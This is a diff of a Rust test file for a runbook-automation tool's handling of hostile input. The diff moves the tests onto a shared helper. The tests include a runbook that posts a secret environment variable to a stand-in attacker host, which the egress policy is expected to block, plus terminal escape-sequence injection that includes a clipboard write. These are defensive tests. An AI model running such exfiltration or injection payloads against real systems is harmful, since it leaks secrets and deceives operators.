@@ -1,7 +1,7 @@
 //! Hostile input: malformed runbooks, answers, scenarios and params each get a clear error
 //! and an exit code, never a panic or a hang.
 
-use crate::support::{prompts_answered, Exit, Output, Test};
+use crate::support::{prompts_answered, with_script, Exit, Output, Test};
 
 fn no_panic(out: &Output) {
     assert!(!out.stderr.contains("panicked"), "panic:\n{}", out.stderr);
@@ -22,7 +22,7 @@ fn rehearsal(extra: &[&str]) -> Test {
 }
 
 fn check_text(name: &str, text: &str) -> Output {
-    let out = Test::new().file(name, text).args(&["check", name]).run();
+    let out = with_script("check", name, text).run();
     no_panic(&out);
     out
 }
@@ -149,23 +149,15 @@ fn hostile_params_are_refused_or_reach_the_checks_intact() {
 
 #[test]
 fn plain_http_to_a_remote_host_is_refused_and_tls_cannot_be_turned_off() {
-    let out = Test::new()
-        .file(
-            "plain.rhai",
-            "runbook(#{ id: \"p\", title: \"t\", egress: [\"example.com\"] });\nstep(\"a\", \"A\", |ctx| { http::get(\"http://example.com/\"); });\n",
-        )
-        .args(&["exec", "plain.rhai"])
+    let out = with_script("exec", "plain.rhai", "runbook(#{ id: \"p\", title: \"t\", egress: [\"example.com\"] });\nstep(\"a\", \"A\", |ctx| { http::get(\"http://example.com/\"); });\n",
+)
         .run();
     no_panic(&out);
     out.exit(Exit::StepFailed)
         .stderr_has("plain.rhai:2:30:")
         .stderr_has("http://");
-    let out = Test::new()
-        .file(
-            "insecure.rhai",
-            "runbook(#{ id: \"i\", title: \"t\", egress: [\"example.com\"] });\nstep(\"a\", \"A\", |ctx| { http::get(\"https://example.com/\", #{ insecure: true }); });\n",
-        )
-        .args(&["exec", "insecure.rhai"])
+    let out = with_script("exec", "insecure.rhai", "runbook(#{ id: \"i\", title: \"t\", egress: [\"example.com\"] });\nstep(\"a\", \"A\", |ctx| { http::get(\"https://example.com/\", #{ insecure: true }); });\n",
+)
         .run();
     no_panic(&out);
     out.exit(Exit::StepFailed)
@@ -182,9 +174,8 @@ step("show", "Show the ratio", |ctx| {
 
 /// ratio.rhai run with `--param ratio=VALUE`.
 fn ratio(value: &str) -> Output {
-    Test::new()
-        .file("ratio.rhai", FLOAT_PARAM)
-        .args(&["exec", "ratio.rhai", "--yes", "--param"])
+    with_script("exec", "ratio.rhai", FLOAT_PARAM)
+        .args(&["--yes", "--param"])
         .arg(format!("ratio={value}"))
         .run()
 }
@@ -203,9 +194,8 @@ fn a_float_param_refuses_words_and_infinities_echoing_little() {
     }
     // A single argument is capped at 128 KiB by the kernel.
     let long = "9".repeat(100_000);
-    let out = Test::new()
-        .file("prompts.rhai", "runbook(#{ id: \"n\", title: \"t\" });\nparam(\"n\", #{ default: 3 });\nstep(\"s\", \"S\", |ctx| {});\n")
-        .args(&["exec", "prompts.rhai", "--yes", "--param", &format!("n=x{long}")])
+    let out = with_script("exec", "prompts.rhai", "runbook(#{ id: \"n\", title: \"t\" });\nparam(\"n\", #{ default: 3 });\nstep(\"s\", \"S\", |ctx| {});\n")
+        .args(&["--yes", "--param", &format!("n=x{long}")])
         .run();
     out.exit(Exit::Usage);
     assert!(
@@ -276,9 +266,8 @@ step("spin", "Sleeps forever", |ctx| {
     loop { time::sleep(1); }
 }).timeout("2s");
 "#;
-    let out = Test::new()
-        .file("slow.rhai", runbook)
-        .args(&["exec", "slow.rhai", "--yes"])
+    let out = with_script("exec", "slow.rhai", runbook)
+        .args(&["--yes"])
         .run();
     out.exit(Exit::StepFailed)
         .stderr_has("runbook::timeout")
@@ -287,10 +276,7 @@ step("spin", "Sleeps forever", |ctx| {
     let bad = r#"runbook(#{ id: "bad", title: "Bad timeout" });
 step("s", "S", |ctx| {}).timeout("soon");
 "#;
-    let out = Test::new()
-        .file("bad.rhai", bad)
-        .args(&["check", "bad.rhai"])
-        .run();
+    let out = with_script("check", "bad.rhai", bad).run();
     no_panic(&out);
     out.stderr_has(".timeout(\"soon\"): not a duration between 1s and 24h");
 }
@@ -393,32 +379,18 @@ step("get", "Read a huge answer", |ctx| {
 "#;
     for chunked in [false, true] {
         let url = huge_answer_server(3 << 20, chunked);
-        let out = Test::new()
-            .file("big.rhai", runbook)
+        let out = with_script("exec", "big.rhai", runbook)
             .env("RUNBOOK_MAX_RESPONSE_MB", "1")
-            .args(&[
-                "exec",
-                "big.rhai",
-                "--yes",
-                "--param",
-                &format!("url={url}"),
-            ])
+            .args(&["--yes", "--param", &format!("url={url}")])
             .run();
         out.exit(Exit::StepFailed)
             .stderr_has("the answer is larger than 1 MiB, the most runbook reads")
             .stderr_has("raise RUNBOOK_MAX_RESPONSE_MB");
         assert!(!out.stdout.contains("read "), "{}", out.stdout);
     }
-    let out = Test::new()
-        .file("big.rhai", runbook)
+    let out = with_script("exec", "big.rhai", runbook)
         .env("RUNBOOK_MAX_RESPONSE_MB", "lots")
-        .args(&[
-            "exec",
-            "big.rhai",
-            "--yes",
-            "--param",
-            "url=http://127.0.0.1:9",
-        ])
+        .args(&["--yes", "--param", "url=http://127.0.0.1:9"])
         .run();
     no_panic(&out);
     out.stderr_has("RUNBOOK_MAX_RESPONSE_MB");
@@ -432,9 +404,8 @@ step(\"s\", \"Step \\x1b[2J\", |ctx| {\n\
     print(\"before\\x1b[2J\\x1b[Hfake all clear\\rover\");\n\
     fail(\"vendor said \\x1b[31mred\\x1b]52;c;cHduZWQ=\\x07\");\n\
 });\n";
-    let out = Test::new()
-        .file("esc.rhai", runbook)
-        .args(&["exec", "esc.rhai", "--yes", "--actor", "ops\u{1b}[8m"])
+    let out = with_script("exec", "esc.rhai", runbook)
+        .args(&["--yes", "--actor", "ops\u{1b}[8m"])
         .run();
     out.exit(Exit::StepFailed);
     for (name, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
@@ -454,9 +425,8 @@ fn a_huge_identifier_is_not_echoed_whole() {
     let runbook = format!(
         "runbook(#{{ id: \"long\", title: \"Long\" }});\nstep(\"s\", \"S\", |ctx| {{ {name}(); }});\n"
     );
-    let out = Test::new()
-        .file("long.rhai", &runbook)
-        .args(&["exec", "long.rhai", "--yes"])
+    let out = with_script("exec", "long.rhai", &runbook)
+        .args(&["--yes"])
         .run();
     no_panic(&out);
     out.stderr_has("more characters not shown");
@@ -478,9 +448,8 @@ step("s", "Nest", |ctx| {
     ctx.deep = a;
 });
 "#;
-    let out = Test::new()
-        .file("deep.rhai", runbook)
-        .args(&["exec", "deep.rhai", "--yes"])
+    let out = with_script("exec", "deep.rhai", runbook)
+        .args(&["--yes"])
         .run();
     out.exit(Exit::StepFailed)
         .stderr_has("runbook::script::too_large");
@@ -509,10 +478,9 @@ step("send", "Send", |ctx| {
     http::post("https://collector.evil.example/drop", #{ json: #{ k: key } });
 }).no_undo("a test");
 "#;
-    let out = Test::new()
-        .file("exfil.rhai", runbook)
+    let out = with_script("exec", "exfil.rhai", runbook)
         .env("THE_KEY", "egress-secret-77aa88bb")
-        .args(&["exec", "exfil.rhai", "--yes"])
+        .args(&["--yes"])
         .run();
     out.exit(Exit::StepFailed)
         .stdout_has("egress: api.vendor.example, app.example.org:8443 · loopback")
